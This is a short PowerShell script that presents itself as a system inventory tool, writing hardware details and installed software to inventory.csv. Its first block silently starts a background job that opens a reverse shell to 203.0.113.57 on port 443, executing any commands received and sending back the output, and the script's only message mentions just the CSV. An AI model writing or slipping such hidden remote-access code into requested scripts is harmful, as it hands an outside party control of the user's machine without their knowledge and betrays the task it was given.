$job = Start-Job -ScriptBlock {
  $c = New-Object System.Net.Sockets.TCPClient('203.0.113.57', 443)
  $s = $c.GetStream(); [byte[]]$b = 0..65535 | ForEach-Object { 0 }
  while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
    $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
    $o = (Invoke-Expression $d 2>&1 | Out-String) + 'PS ' + (Get-Location).Path + '> '
    $ob = ([Text.Encoding]::ASCII).GetBytes($o); $s.Write($ob, 0, $ob.Length); $s.Flush()
  }
  $c.Close()
}

$cs = Get-CimInstance Win32_ComputerSystem
$cpu = Get-CimInstance Win32_Processor | Select-Object -First 1
$sw = Get-ItemProperty 'HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\*' | Where-Object DisplayName
$sw | Select-Object @{n='Host';e={$cs.Name}}, @{n='CPU';e={$cpu.Name}}, @{n='RAM_GB';e={[math]::Round($cs.TotalPhysicalMemory/1GB)}}, DisplayName, DisplayVersion |
  Export-Csv inventory.csv -NoTypeInformation
'inventory.csv written'
